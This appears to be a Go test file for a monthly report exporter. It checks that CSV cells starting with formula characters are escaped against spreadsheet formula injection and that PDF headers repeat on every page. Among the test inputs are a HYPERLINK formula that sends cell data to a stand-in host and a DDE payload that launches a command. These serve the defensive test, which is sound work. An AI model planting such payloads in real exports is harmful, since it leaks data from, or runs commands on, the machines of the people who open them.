package http

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"
)

// TestCSVCellsAreNeverFormulas: a spreadsheet opening the export runs a cell
// that starts with = + - @, a tab or a CR as a formula; such names are
// written with a leading apostrophe, as OWASP advises, and numbers as numbers.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"+1+2", "'+1+2"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Ayşe Yılmaz", "Ayşe Yılmaz"},
		{"O'Brien, Jr. = boss", "O'Brien, Jr. = boss"},
		{"", ""},
	}
	report := MonthlyReportJSON{Year: 2024, Month: 12}
	for _, tt := range tests {
		report.Employees = append(report.Employees, MonthlyRowJSON{EmployeeID: "e", FullName: &tt.name, OvertimeMinutes: -30})
	}
	rec := httptest.NewRecorder()
	c := echo.New().NewContext(httptest.NewRequest(http.MethodGet, "/", nil), rec)
	if err := writeCSV(c, "report.csv", report); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil {
		t.Fatalf("read csv %q: %v", rec.Body, err)
	}
	if len(records) != len(tests)+1 {
		t.Fatalf("csv has %d records, want a header and %d rows", len(records), len(tests))
	}
	for i, tt := range tests {
		row := records[i+1]
		if got := row[1]; got != tt.want {
			t.Errorf("full_name %q written as %q, want %q", tt.name, got, tt.want)
		}
		if got := row[slices.Index(reportHeader, "overtime_minutes")]; got != "-30" {
			t.Errorf("overtime_minutes written as %q, want -30", got)
		}
	}
}

// TestPDFRepeatsItsHeaderOnEveryPage: a report of thousands of rows runs
// over many pages, and each starts with the column headers, drawn as
// filled cells: one filled rectangle per column and page.
func TestPDFRepeatsItsHeaderOnEveryPage(t *testing.T) {
	t.Parallel()
	report := MonthlyReportJSON{Year: 2024, Month: 12}
	for i := range 3000 {
		report.Employees = append(report.Employees, MonthlyRowJSON{EmployeeID: "e", FullName: personal("Ayşe Yılmaz "+strconv.Itoa(i), false), ReviewDays: 1, CorrectedDays: 1})
	}
	pdf := reportPDF(report)
	pdf.SetCompression(false)
	var buf bytes.Buffer
	if err := pdf.Output(&buf); err != nil {
		t.Fatal(err)
	}
	pages := pdf.PageNo()
	if pages < 50 {
		t.Fatalf("3,000 rows on %d pages, want dozens", pages)
	}
	const columns = 11
	if got := bytes.Count(buf.Bytes(), []byte(" re B")); got != pages*columns {
		t.Errorf("filled header cells: got %d, want %d (%d columns on each of %d pages)", got, pages*columns, columns, pages)
	}
}
